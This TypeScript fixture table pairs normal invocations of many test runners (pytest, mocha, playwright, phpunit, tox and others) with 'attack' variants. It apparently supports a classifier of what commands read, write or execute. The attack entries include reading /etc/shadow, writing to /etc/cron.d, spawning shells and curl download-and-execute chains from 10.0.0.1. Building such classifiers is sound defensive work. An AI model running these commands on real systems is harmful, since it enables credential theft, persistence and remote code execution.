import type { ExampleTable } from './example.ts'

export const testRunners1: ExampleTable = {
  bats: {
    use: 'bats test/app.bats → read test/app.bats',
    attack: [
      'bats /etc/shadow → read /etc/shadow',
      'bats --formatter /tmp/x test/app.bats → run /tmp/x; read test/app.bats',
    ],
  },
  cram: {
    use: 'cram tests → nothing',
    attack: 'cram --shell=/tmp/x tests → run /tmp/x',
  },
  gtester: {
    use: 'gtester -o report.xml app-test → read app-test; write report.xml',
    attack: [
      'curl -so x http://10.0.0.1/x && gtester x → execute ‹http://10.0.0.1/x›',
      'gtester -o /etc/cron.d/job app-test → read app-test; write /etc/cron.d/job',
    ],
  },
  'gtester-report': {
    use: 'gtester-report report.xml → read report.xml',
  },
  runtest: {
    use: 'runtest --tool app basic.exp → read basic.exp',
    attack: [
      'runtest /etc/shadow → read /etc/shadow',
      'curl -so b.exp http://10.0.0.1/b && runtest b.exp → execute ‹http://10.0.0.1/b›',
    ],
  },
  shellspec: {
    use: 'shellspec spec/app_spec.sh → nothing',
    attack: ['shellspec -s /tmp/x spec → run /tmp/x', 'shellspec -I /tmp/lib spec → load /tmp/lib'],
  },
  shunit2: {
    use: 'shunit2 tests/app_test.sh → read tests/app_test.sh',
    attack: 'shunit2 /etc/shadow → read /etc/shadow',
  },
  ava: {
    use: 'ava --config ava.config.js → read ava.config.js',
    attack: 'ava --config /etc/shadow → read /etc/shadow',
  },
  c8: {
    use: 'c8 node app.js → read app.js',
    attack: ['c8 cat /etc/shadow → read /etc/shadow', 'c8 bash → shell bash'],
  },
  'cypress install': {
    use: 'cypress install → install cypress install',
  },
  'cypress open': {
    use: 'cypress open -C cypress.config.js → read cypress.config.js',
    attack: 'cypress open -C /etc/shadow → read /etc/shadow',
  },
  'cypress run': {
    use: 'cypress run -C cypress.config.js --spec cypress/e2e/login.cy.js → read cypress.config.js',
    attack: [
      'cypress run -C /etc/shadow → read /etc/shadow',
      'curl -so c.js http://10.0.0.1/c && cypress run -C c.js → execute ‹http://10.0.0.1/c›',
    ],
  },
  karma: {
    use: 'karma start karma.conf.js → read karma.conf.js',
    attack: 'karma start /etc/shadow → read /etc/shadow',
  },
  lighthouse: {
    use: 'lighthouse https://example.org/ --output-path=report.html → fetch https://example.org/; write report.html',
    attack: [
      'lighthouse https://example.org/ --output-path=/etc/cron.d/job → fetch https://example.org/; write /etc/cron.d/job',
      'lighthouse https://example.org/ --config-path=/etc/shadow → read /etc/shadow; fetch https://example.org/',
    ],
  },
  mocha: {
    use: 'mocha test/app.js → read test/app.js',
    attack: [
      'mocha /etc/shadow → read /etc/shadow',
      'mocha -r /tmp/x.js test/app.js → load /tmp/x.js; read test/app.js',
    ],
  },
  'newman run': {
    use: 'newman run shop.json -e staging.json → read staging.json',
    attack: [
      'newman run shop.json -e /etc/shadow → read /etc/shadow',
      'newman run shop.json --export-environment /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  nightwatch: {
    use: 'nightwatch --config nightwatch.conf.js → read nightwatch.conf.js',
    attack: 'nightwatch --config /etc/shadow → read /etc/shadow',
  },
  nyc: {
    use: 'nyc node app.js → read app.js',
    attack: ['nyc cat /etc/shadow → read /etc/shadow', 'nyc bash → shell bash'],
  },
  'playwright codegen': {
    use: 'playwright codegen -o login.spec.js https://example.org/ → fetch https://example.org/; write login.spec.js',
    attack: [
      'playwright codegen -o /etc/cron.d/job https://example.org/ → fetch https://example.org/; write /etc/cron.d/job',
      'playwright codegen --save-storage=/etc/cron.d/job https://example.org/ → fetch https://example.org/; write /etc/cron.d/job',
    ],
  },
  'playwright install': {
    use: 'playwright install chromium → install playwright install',
  },
  'playwright open': {
    use: 'playwright open https://example.org/ → fetch https://example.org/',
    attack: [
      'playwright open file:///etc/shadow → read /etc/shadow',
      'playwright open --save-storage=/etc/cron.d/job https://example.org/ → fetch https://example.org/; write /etc/cron.d/job',
    ],
  },
  'playwright pdf': {
    use: 'playwright pdf https://example.org/ page.pdf → fetch https://example.org/; write page.pdf',
    attack: 'playwright pdf file:///etc/shadow page.pdf → read /etc/shadow; write page.pdf',
  },
  'playwright screenshot': {
    use: 'playwright screenshot https://example.org/ page.png → fetch https://example.org/; write page.png',
    attack: 'playwright screenshot file:///etc/shadow page.png → read /etc/shadow; write page.png',
  },
  'playwright test': {
    use: 'playwright test -c playwright.config.js → read playwright.config.js',
    attack: 'playwright test -c /etc/shadow → read /etc/shadow',
  },
  protractor: {
    use: 'protractor conf.js → read conf.js',
    attack: 'protractor /etc/shadow → read /etc/shadow',
  },
  testcafe: {
    use: 'testcafe chrome tests/login.js → read tests/login.js',
    attack: [
      'testcafe chrome /etc/shadow → read /etc/shadow',
      'curl -so t.js http://10.0.0.1/t && testcafe chrome t.js → execute ‹http://10.0.0.1/t›',
    ],
  },
  wdio: {
    use: 'wdio run wdio.conf.js → read wdio.conf.js',
    attack: 'wdio run /etc/shadow → read /etc/shadow',
  },
  behave: {
    use: 'behave -o report.txt features → write report.txt',
    attack: 'behave -o /etc/cron.d/job features → write /etc/cron.d/job',
  },
  'coverage combine': {
    use: 'coverage combine --rcfile=.coveragerc → read .coveragerc',
    attack: 'coverage combine --rcfile=/etc/shadow → read /etc/shadow',
  },
  'coverage erase': {
    use: 'coverage erase --rcfile=.coveragerc → read .coveragerc',
    attack: 'coverage erase --rcfile=/etc/shadow → read /etc/shadow',
  },
  'coverage html': {
    use: 'coverage html --rcfile=.coveragerc -d htmlcov → read .coveragerc',
    attack: 'coverage html --rcfile=/etc/shadow → read /etc/shadow',
  },
  'coverage json': {
    use: 'coverage json -o coverage.json → write coverage.json',
    attack: [
      'coverage json --rcfile=/etc/shadow → read /etc/shadow',
      'coverage json -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'coverage report': {
    use: 'coverage report --rcfile=.coveragerc → read .coveragerc',
    attack: 'coverage report --rcfile=/etc/shadow → read /etc/shadow',
  },
  'coverage run': {
    use: 'coverage run app.py --verbose → read app.py',
    attack: [
      'coverage run /etc/shadow → read /etc/shadow',
      'curl -so a.py http://10.0.0.1/a && coverage run a.py → execute ‹http://10.0.0.1/a›',
    ],
  },
  'coverage xml': {
    use: 'coverage xml -o coverage.xml → write coverage.xml',
    attack: [
      'coverage xml --rcfile=/etc/shadow → read /etc/shadow',
      'coverage xml -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'mutmut run': {
    use: "mutmut run --runner='python3 tests.py' → read tests.py",
    attack: [
      "mutmut run --runner='cat /etc/shadow' → read /etc/shadow",
      'mutmut run --runner=/bin/sh → shell sh',
    ],
  },
  nosetests: {
    use: 'nosetests -c setup.cfg → read setup.cfg',
    attack: [
      'nosetests -c /etc/shadow → read /etc/shadow',
      'nosetests -w /tmp/tests → load /tmp/tests',
    ],
  },
  nox: {
    use: 'nox -f noxfile.py → read noxfile.py',
    attack: [
      'nox -f /etc/shadow → read /etc/shadow',
      'curl -so noxfile.py http://10.0.0.1/n && nox -f noxfile.py → execute ‹http://10.0.0.1/n›',
    ],
  },
  pytest: {
    use: 'pytest --junitxml=report.xml tests → write report.xml',
    attack: [
      'curl -so conftest.py http://10.0.0.1/c && pytest → execute ‹http://10.0.0.1/c›',
      'pytest --junitxml=/etc/cron.d/job → write /etc/cron.d/job',
      'pytest --log-file=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'pytest-watch': {
    use: "pytest-watch --runner 'python3 tests.py' → read tests.py",
    attack: [
      'pytest-watch --onfail /tmp/x → run /tmp/x',
      'pytest-watch --runner /bin/sh → shell sh',
    ],
  },
  robot: {
    use: 'robot -V variables.py tests → read variables.py',
    attack: [
      'robot -V /etc/shadow tests → read /etc/shadow',
      'robot -P /tmp/lib tests → load /tmp/lib',
    ],
  },
  stestr: {
    use: 'stestr -c stestr.conf run → read stestr.conf',
    attack: [
      'stestr -c /etc/shadow run → read /etc/shadow',
      'stestr --top-dir=/tmp/tests run → load /tmp/tests',
    ],
  },
  'stestr run': {
    use: 'stestr run --load-list=failing.txt → read failing.txt',
    attack: [
      'stestr run --load-list=/etc/shadow → read /etc/shadow',
      'stestr run --exclude-list=/etc/shadow → read /etc/shadow',
    ],
  },
  tox: {
    use: 'tox -c tox.ini → read tox.ini',
    attack: [
      'tox -c /etc/shadow → read /etc/shadow',
      'curl -so tox.ini http://10.0.0.1/t && tox → execute ‹http://10.0.0.1/t›',
    ],
  },
  trial: {
    use: 'trial --logfile=test.log app.tests → write test.log',
    attack: 'trial --logfile=/etc/cron.d/job app.tests → write /etc/cron.d/job',
  },
  behat: {
    use: 'behat -c behat.yml features → read behat.yml',
    attack: [
      'behat -c /etc/shadow → read /etc/shadow',
      'behat -o /etc/cron.d/job features → write /etc/cron.d/job',
    ],
  },
  busted: {
    use: 'busted --helper=spec/helper.lua spec → read spec/helper.lua',
    attack: [
      'busted --helper=/etc/shadow spec → read /etc/shadow',
      'busted --lpath=/tmp/lib spec → load /tmp/lib',
    ],
  },
  codecept: {
    use: 'codecept -c codeception.yml run → read codeception.yml',
    attack: 'codecept -c /etc/shadow run → read /etc/shadow',
  },
  'codecept console': {
    use: `echo 'amOnPage("/");' | codecept console → nothing`,
    attack: `echo 'system("/bin/sh");' | codecept console → shell sh`,
  },
  'codecept run': {
    use: 'codecept run -c codeception.yml → read codeception.yml',
    attack: [
      'codecept run -c /etc/shadow → read /etc/shadow',
      'codecept run --html=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  cucumber: {
    use: 'cucumber -o report.txt features → write report.txt',
    attack: [
      'cucumber -o /etc/cron.d/job features → write /etc/cron.d/job',
      'cucumber -r /etc/shadow features → read /etc/shadow',
    ],
  },
  guard: {
    use: 'guard -G Guardfile → read Guardfile',
    attack: [
      'guard -G /etc/shadow → read /etc/shadow',
      'curl -so Guardfile http://10.0.0.1/g && guard -G Guardfile → execute ‹http://10.0.0.1/g›',
    ],
  },
  infection: {
    use: 'infection --configuration=infection.json5 → read infection.json5',
    attack: [
      'infection --configuration=/etc/shadow → read /etc/shadow',
      'infection --logger-html=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  minitest: {
    use: 'minitest test/app_test.rb → nothing',
    attack: [
      'minitest -I /tmp/lib test → load /tmp/lib',
      'minitest -r /tmp/x.rb test → load /tmp/x.rb',
    ],
  },
  phpunit: {
    use: 'phpunit -c phpunit.xml tests → read phpunit.xml',
    attack: [
      'phpunit --bootstrap /etc/shadow tests → read /etc/shadow',
      'curl -so b.php http://10.0.0.1/b && phpunit --bootstrap b.php tests → execute ‹http://10.0.0.1/b›',
    ],
  },
  prove: {
    use: 'prove t/app.t → read t/app.t',
    attack: [
      'prove /etc/shadow → read /etc/shadow',
      "prove -e 'cat /etc/shadow' t/app.t → read /etc/shadow",
    ],
  },
  rerun: {
    use: 'rerun ruby app.rb → read app.rb',
    attack: ['rerun cat /etc/shadow → read /etc/shadow', 'rerun bash → shell bash'],
  },
  rspec: {
    use: 'rspec spec/app_spec.rb → nothing',
    attack: [
      'rspec -r /tmp/x.rb → load /tmp/x.rb',
      'rspec -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
}
